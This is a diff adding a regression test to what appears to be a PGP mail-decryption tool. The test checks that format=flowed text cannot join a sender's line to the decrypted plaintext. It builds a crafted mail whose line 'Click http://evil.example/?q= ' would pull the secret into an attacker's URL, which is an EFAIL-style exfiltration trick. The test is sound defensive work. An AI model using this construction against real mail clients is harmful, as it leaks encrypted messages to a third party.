@@ -408,3 +408,19 @@ def test_efail_two_content_types_stay_encrypted(env, layout):
     assert SECRET not in r.stdout
     status = parse(r.stdout)["X-Pgpdecd-Status"]
     assert status.endswith("; embedded=1"), status
+
+
+def test_flowed_text_does_not_join_the_senders_line_to_the_plaintext(env):
+    # format=flowed; delsp=yes: a line of the sender's ending in a space is
+    # joined to the next one with the space removed, so a reader showed
+    # "http://evil.example/?q=The" as one link, the plaintext's first word
+    # in the sender's URL.  A rebuilt text is shown as written (fixed).
+    mail = (b"From: a@x\nSubject: s\nMIME-Version: 1.0\n"
+            b"Content-Type: text/plain; format=flowed; delsp=yes\n\n"
+            b"Click http://evil.example/?q= \n" + env["encrypt"](SECRET + b"\n"))
+    r = mime(env, mail)
+    assert r.returncode == 0, r.stderr
+    m = parse(r.stdout)
+    assert m["X-Pgpdecd-Status"].startswith("decrypted;")
+    assert SECRET in r.stdout
+    assert m.get_param("format") == "fixed", m["Content-Type"]
